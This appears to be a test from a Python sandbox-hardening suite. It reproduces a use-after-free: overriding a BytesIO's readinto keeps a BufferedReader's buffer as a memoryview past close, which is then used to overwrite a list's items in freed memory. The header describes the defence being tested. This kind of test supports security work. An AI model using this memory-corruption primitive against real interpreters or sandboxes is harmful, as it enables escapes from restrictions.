# family: wall (memory: a BytesIO's readinto replaced on the instance, then wrapped: the buffer view kept past close)   goal: memory   interpreter: /usr/bin/python3
# A sibling of X140 that the wrap check alone does not stop: the raw stream is a
# real BytesIO (the type a buffered stream may wrap), but 3.11 calls raw.readinto
# by name, and an instance attribute comes before the type's method. So the
# program's function receives the buffered stream's own buffer as a memoryview,
# keeps it past close(), and writes into the list that takes the block. The
# wall: FileIO's and BytesIO's readinto and write are data descriptors whose
# setter refuses (io_fixed).
import io
import struct
saved = []
def readinto(b):
    saved.append(b)
    return 4
marker = "the marker object"
keep = []
for attempt in range(50):
    raw = io.BytesIO(b"data")
    raw.readinto = readinto
    br = io.BufferedReader(raw, 8192)
    br.read(1)
    mv = saved.pop()
    br.close()
    del br
    victim = [None] * 1024
    if struct.unpack_from("<Q", mv, 0)[0] == id(None):
        struct.pack_into("<Q", mv, 0, id(marker))
        seen = victim[0] is marker
        struct.pack_into("<Q", mv, 0, id(None))
        if seen:
            print("MEMORY-OVERWRITTEN: a list's item written through the kept view")
        break
    keep.append((mv, victim))
else:
    print("no list under the kept view")
